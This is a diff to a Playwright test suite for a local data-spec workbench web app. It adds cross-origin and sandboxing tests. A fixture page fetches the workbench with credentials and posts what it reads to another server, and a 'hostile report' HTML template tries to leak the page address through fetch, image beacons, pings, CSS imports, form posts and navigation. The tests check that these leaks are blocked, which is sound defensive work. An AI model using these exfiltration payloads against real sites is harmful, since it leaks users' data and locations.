@@ -17,8 +17,9 @@ pytest.importorskip("playwright", reason="playwright is not installed")
 from playwright.sync_api import Browser, BrowserContext, Page, expect, sync_playwright
 
 from chromium import chromium
+from congenial.workbench.server import page_to
 from releases import simulate
-from workbench.bench import EXAMPLES, Served, folder_with, serve, settled, tree_in
+from workbench.bench import EXAMPLES, TOKEN, Served, folder_with, listening, opened_by, serve, settled, tree_in
 
 ARGS = "--headless --no-sandbox --disable-gpu --disable-background-networking --disable-component-update --disable-sync"
 AXE = Path(os.environ.get("XDG_CACHE_HOME", Path.home() / ".cache")) / "congenial-axe/node_modules/axe-core/axe.min.js"
@@ -98,7 +99,7 @@ def pick(page: Page, *buttons: str, mandate: str = "") -> None:
 def test_the_whole_path_on_p12(page: Page, served: Served) -> None:  # noqa: PLR0915
     """Describe, choose, watch the cost change, release, ask; and back."""
     place = served.desk.folder / "p12"
-    page.goto(served.address)
+    page.goto(f"{served.address}/")
     page.locator("li", has_text="p12/people.csv").get_by_role("link", name="Describe it").click()
     assert "256" not in page.content()
     page.get_by_label("Its name, for files").fill("people-2026")
@@ -112,7 +113,7 @@ def test_the_whole_path_on_p12(page: Page, served: Served) -> None:  # noqa: PLR
     page.locator("[name=ordered-1]").check()
     page.locator("[name=name]").fill("people.yaml")
     page.get_by_role("button", name="Write the spec").click()
-    assert page.locator(".good").is_visible(), page.locator("main").inner_text()
+    expect(page.locator(".good")).to_be_visible()
     page.get_by_role("link", name="Choose", exact=True).click()
     settled(page)
     assert "Nothing follows" in page.locator("#panel").inner_text()
@@ -257,7 +258,7 @@ def test_five_mistakes_stand_at_their_lines(page: Page, served: Served) -> None:
         assert any(mistake in line for line in lines), (mistake, lines)
     page.locator("textarea[name=text]").fill((EXAMPLES / "p12/spec.yaml").read_text())
     page.get_by_role("button", name="Save").click()
-    assert page.locator(".good").is_visible()
+    expect(page.locator(".good")).to_be_visible()
 
 
 def test_a_contradiction_is_named(page: Page, served: Served) -> None:
@@ -279,7 +280,7 @@ def test_a_tampered_bundle_is_not_asked(page: Page, served: Served, tmp_path: Pa
     page.goto(f"{served.address}/ask")
     page.locator("input[type=file]").set_input_files(packed)
     page.get_by_role("button", name="Open it").click()
-    assert "Not verified" in page.locator("main").inner_text()
+    expect(page.locator("main")).to_contain_text("Not verified")
     assert page.locator("#query").count() == 0
 
 
@@ -305,6 +306,82 @@ def test_the_keyboard_is_enough(page: Page, served: Served) -> None:
     assert "female" in page.locator("#selection").inner_text()
     page.locator(".word-button").first.press("Enter")
     assert page.locator("[popover]:popover-open").count() == 1
+
+
+def test_another_port_of_the_same_address_learns_nothing(page: Page, served: Served) -> None:
+    """A server of another user, which the browser is led to from the workbench and from its address bar."""
+    with listening() as other:
+        root = served.address.rpartition("/")[0]
+        other.page = (
+            "<!DOCTYPE html><title>elsewhere</title><script>"
+            f"for (const mode of ['cors', 'no-cors']) fetch('{root}/', {{ mode, credentials: 'include' }}).then("
+            "(found) => found.text()).then((text) => fetch('/told', { method: 'POST', body: text }),"
+            " () => fetch('/told'));"
+            "</script>"
+        )
+        for address in ("/", "/choose?file=p12/spec.yaml", "/ledger"):
+            page.goto(served.address + address)
+        assert page.context.cookies() == []
+        with page.expect_request(f"{other.address}/told"):
+            page.goto(f"{other.address}/typed")
+        page.goto(f"{served.address}/ledger")
+        page.evaluate(f"location.href = '{other.address}/led'")
+        page.wait_for_url(f"{other.address}/led")
+        page.wait_for_load_state()
+        assert {"/typed", "/led"} <= {path for path, _, _ in other.requests}
+        for _, headers, _ in other.requests:
+            assert "cookie" not in headers
+            assert not headers.get("referer", "").startswith(root)
+        assert TOKEN not in other.text
+        assert opened_by(other, served) == []
+
+
+HOSTILE_REPORT = """<!DOCTYPE html><html><head><meta name="referrer" content="unsafe-url"><base href="{0}/base">
+<meta http-equiv="refresh" content="0; url={0}/refresh"><link rel="stylesheet" href="{0}/sheet">
+<link rel="prefetch" href="{0}/prefetch">
+<style>@import url("{0}/import"); body {{ background: url("{0}/paper") }}</style>
+<script>fetch("{0}/script?" + location.href);
+new Image().src = "{0}/script-image?" + location.href</script></head><body>
+<img src="{0}/image" onerror="fetch('{0}/error?' + location.href)"><iframe src="{0}/frame"></iframe>
+<object data="{0}/object">
+</object><video src="{0}/video"></video><form method="post" action="{0}/form"><button id="form">form</button></form>
+<a id="link" referrerpolicy="unsafe-url" ping="{0}/ping" href="{0}/link">link</a>
+<a id="top" target="_top" href="{0}/top">top</a>
+<a id="blank" target="_blank" rel="opener" href="{0}/blank">blank</a></body></html>"""
+
+
+@pytest.mark.parametrize("sandbox", ['sandbox=""', ""])
+def test_a_report_cannot_tell_anybody_where_it_is_shown(sandbox: str, context: BrowserContext, served: Served) -> None:
+    """A foreign report that does all it can, in a frame as its page has it, and in one that forgot the sandbox."""
+    bundle = served.desk.folder / "hostile"
+    bundle.mkdir(exist_ok=True)
+    (bundle / "manifest.json").write_text("{}")
+    page = context.new_page()
+    with listening() as other:
+        (bundle / "report.html").write_text(HOSTILE_REPORT.format(other.address))
+        for target in ("form", "link", "top", "blank"):
+            page.goto(f"{served.address}/ledger")
+            page.evaluate(
+                "(sandbox) => { document.querySelector('main').innerHTML ="
+                " `<iframe ${sandbox} src='report?bundle=hostile'></iframe>` }",
+                sandbox,
+            )
+            page.frame_locator("iframe").locator(f"#{target}").click()
+            page.wait_for_timeout(700)
+        answer = page.goto(f"{served.address}/report?bundle=hostile")
+        assert answer is not None
+        assert answer.status == 400
+        assert page.locator("#link").count() == 0
+        assert other.requests == []
+    page.close()
+
+
+def test_the_file_that_the_browser_is_started_with_leads_to_the_workbench(
+    page: Page, served: Served, tmp_path: Path
+) -> None:
+    page.goto(page_to(served.link, tmp_path).as_uri())
+    page.wait_for_url(served.link)
+    assert "p12/spec.yaml" in page.locator("main").inner_text()
 
 
 @pytest.mark.parametrize("scheme", ["light", "dark"])
